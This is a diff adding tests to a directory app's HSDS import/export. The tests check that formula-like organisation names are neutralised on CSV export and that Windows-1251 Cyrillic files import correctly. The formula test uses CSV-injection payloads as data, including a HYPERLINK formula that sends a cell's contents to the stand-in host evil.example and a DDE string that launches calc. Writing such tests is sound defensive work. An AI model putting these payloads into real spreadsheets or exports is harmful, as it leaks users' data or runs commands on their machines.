@@ -5,7 +5,7 @@ import { fileURLToPath } from 'node:url';
 import { readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { readZip } from '../../server/src/modules/directory/hsds/zip.js';
+import { readZip, writeZip } from '../../server/src/modules/directory/hsds/zip.js';
 import { parseCsv } from '../../server/src/modules/directory/hsds/csv.js';
 import { directorySeeder, seedId } from '../../server/src/modules/directory/directory.seed.js';
 import { TEST_APP_SECRET } from '../helpers/runtime.js';
@@ -29,6 +29,18 @@ beforeAll(async () => {
   coordinator = (await signedIn(server.url, server.services, ['coordinator'])).client;
 });
 afterAll(() => server?.close());
+
+/** Text as a Russian Windows spreadsheet saves it (Windows-1251): ASCII as is, А–я, Ё and ё. */
+function windows1251(text: string): Buffer {
+  return Buffer.from([...text].map((ch) => {
+    const c = ch.codePointAt(0)!;
+    if (c < 0x80) return c;
+    if (c >= 0x410 && c <= 0x44f) return c - 0x410 + 0xc0;
+    if (ch === 'Ё') return 0xa8;
+    if (ch === 'ё') return 0xb8;
+    throw new Error(`no Windows-1251 byte for ${ch}`);
+  }));
+}
 
 const count = (table: 'dirService' | 'dirOrganization' | 'dirPhone' | 'dirSchedule') => (server.services.infra.db.prisma[table] as { count(): Promise<number> }).count();
 
@@ -142,6 +154,48 @@ describe('HSDS import', () => {
     expect(back.status).toBe(200);
     expect(report.errors).toEqual([]);
     expect(report.warnings).toEqual([]);
+  });
+
+  it('exports names that a spreadsheet would run as formulas as text, and imports them back unchanged', async () => {
+    const names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|/c calc', '@SUM(A1)', '-2+3'];
+    for (const name of names) expect((await coordinator.post('/api/directory/organizations', { name })).status).toBe(200);
+    const res = await fetch(`${server.url}/api/directory/export?format=zip`, { headers: { cookie: coordinator.cookieHeader } });
+    const zip = readZip(Buffer.from(await res.arrayBuffer()));
+    const cells = parseCsv(zip.get('organizations.csv')!.toString()).rows.flatMap((r) => r.cells);
+    for (const name of names) {
+      expect(cells).toContain(`'${name}`);
+      expect(cells).not.toContain(name);
+    }
+    // A phone number is a value, not a formula: left as it is.
+    expect(parseCsv(zip.get('phones.csv')!.toString()).rows.flatMap((r) => r.cells)).toContain('+441234234567');
+    const back = await fetch(`${server.url}/api/directory/import`, {
+      method: 'POST', body: writeZip([...zip].map(([name, data]) => ({ name, data }))),
+      headers: { cookie: coordinator.cookieHeader, 'x-csrf-token': coordinator.csrf, 'content-type': 'application/zip' },
+    });
+    expect(back.status).toBe(200);
+    const orgs = (await coordinator.get('/api/directory')).body.map((o: { name: string }) => o.name);
+    for (const name of names) expect(orgs.filter((n: string) => n === name)).toHaveLength(1);
+  });
+
+  it('reads a Windows-1251 table (a Russian spreadsheet) as Cyrillic, with a warning, not as garbage', async () => {
+    const res = await fetch(`${server.url}/api/directory/export?format=zip`, { headers: { cookie: coordinator.cookieHeader } });
+    const zip = readZip(Buffer.from(await res.arrayBuffer()));
+    const id = '7d1c7b2a-3f5e-4c59-9a4b-0e1f2a3b4c5d';
+    const csv = addRow(zip.get('organizations.csv')!.toString(), { id, name: 'Центр «Семья» на Ёлочной', description: 'Приют для матерей с детьми' });
+    // Only ASCII and Cyrillic can be written in Windows-1251: other rows keep their text by the ASCII-only check below.
+    const rows = csv.split('\n');
+    const cyrillicOnly = rows.filter((l, i) => i === 0 || l.startsWith(id) || /^[\x00-\x7f]*$/.test(l)).join('\n');
+    zip.set('organizations.csv', windows1251(cyrillicOnly.replace('«', '"').replace('»', '"')));
+    const back = await fetch(`${server.url}/api/directory/import`, {
+      method: 'POST', body: writeZip([...zip].map(([name, data]) => ({ name, data }))),
+      headers: { cookie: coordinator.cookieHeader, 'x-csrf-token': coordinator.csrf, 'content-type': 'application/zip' },
+    });
+    const report = await back.json();
+    expect(back.status, JSON.stringify(report.errors?.slice(0, 3))).toBe(200);
+    expect(report.warnings.map((w: { problem: string }) => w.problem)).toContain('not UTF-8; read as Windows-1251 (Cyrillic). Check the names, or save the file as UTF-8');
+    const org = (await coordinator.get('/api/directory')).body.find((o: { id: string }) => o.id === id);
+    expect(org?.name).toBe('Центр "Семья" на Ёлочной');
+    expect(JSON.stringify(org)).not.toContain('\uFFFD');
   });
 
   it('exports and re-imports a JSON datapackage with the rows inline', async () => {
